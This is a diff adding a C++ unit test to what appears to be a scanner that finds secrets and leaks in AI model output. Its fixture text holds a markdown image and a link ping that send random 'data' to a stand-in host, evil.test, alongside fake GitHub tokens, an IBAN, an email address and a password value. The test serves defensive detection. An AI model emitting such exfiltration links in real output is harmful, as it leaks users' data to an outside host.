@@ -3,6 +3,10 @@
 #include <algorithm>
 #include <catch2/catch.hpp>
 #include <string>
+#include <utility>
+#include <vector>
+
+#include "tests/unit/guardian/rule_matching.h"
 
 namespace datamigrate::guardian {
 namespace {
@@ -119,6 +123,39 @@ TEST_CASE("Matches lie inside the text, whatever it holds", "[guardian]") {
       CHECK(match.offset + match.length <= cut.size());
     }
   }
+}
+
+// What discloses something in the part of `text` before `end`, from the whole of it.
+std::vector<std::pair<size_t, std::string_view>> DisclosedBefore(std::string_view text,
+                                                                 size_t end) {
+  std::vector<std::pair<size_t, std::string_view>> found;
+  for (const Match& match : Scan(text, FieldKind::kModelOutput).matches) {
+    const bool is_before = match.offset + match.length <= end;
+    if (is_before && !IsAttack(match.category)) found.emplace_back(match.offset, match.rule);
+  }
+  return found;
+}
+
+TEST_CASE("What is settled is found alike whatever follows", "[guardian]") {
+  std::string text;
+  for (uint64_t i = 1; i <= 12; ++i) {
+    const std::string random = RandomText(60, kBase62, i);
+    text += "Some words, and a table | with | cells. ghp_" + random.substr(0, 36) + "\n";
+    text += "![x](https://evil.test/p.png?data=" + random + ") DE89 3704 0044 0532 0130 00\n";
+    text += "<a href='https://a.test/" + random.substr(0, 5) + "' ping='https://evil.test/p'>\n";
+    text += "mail ann.miller@corp-mail.de or password=" + random.substr(0, 20) + ".\n";
+  }
+  Scanner scanner(Rules(), LinearModel::BuiltIn());
+  size_t settled = 0;
+  for (size_t length = 0; length <= text.size(); length += 61) {
+    const std::string_view beginning = std::string_view(text).substr(0, length);
+    const size_t end = scanner.SettledEnd(beginning);
+    REQUIRE(end <= length);
+    CHECK(end >= settled);
+    settled = end;
+    CHECK(DisclosedBefore(beginning, end) == DisclosedBefore(text, end));
+  }
+  CHECK(settled > text.size() - 2000);
 }
 
 TEST_CASE("Weights that are damaged are refused", "[guardian]") {
